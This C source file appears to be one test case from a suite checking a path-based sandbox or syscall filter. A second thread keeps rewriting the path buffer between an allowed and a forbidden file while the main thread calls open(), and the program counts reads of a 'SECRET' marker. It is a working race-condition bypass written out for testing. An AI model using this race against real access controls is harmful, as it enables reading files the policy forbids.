// Class 1: another thread rewrites the path during open. argv: ALLOWED FORBIDDEN ATTEMPTS; both paths of one length.
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static char path[4096];
static char *paths[2];
static volatile int go = 1;
static size_t len;
static void *swap(void *arg) {
    for (unsigned i = 0; go; i++) memcpy(path, paths[i & 1], len + 1);
    return arg;
}
int main(int argc, char **argv) {
    if (argc != 4) return 2;
    paths[0] = argv[1], paths[1] = argv[2], len = strlen(argv[1]);
    memcpy(path, paths[0], len + 1);
    pthread_t thread;
    pthread_create(&thread, 0, swap, 0);
    int attempts = atoi(argv[3]), wins = 0, opened = 0;
    for (int i = 0; i < attempts; i++) {
        char buf[8] = {0};
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        if (read(fd, buf, 6) == 6 && !memcmp(buf, "SECRET", 6)) wins++;
        close(fd);
    }
    go = 0;
    pthread_join(thread, 0);
    printf("attempts %d opened %d wins %d\n", attempts, opened, wins);
    return 0;
}
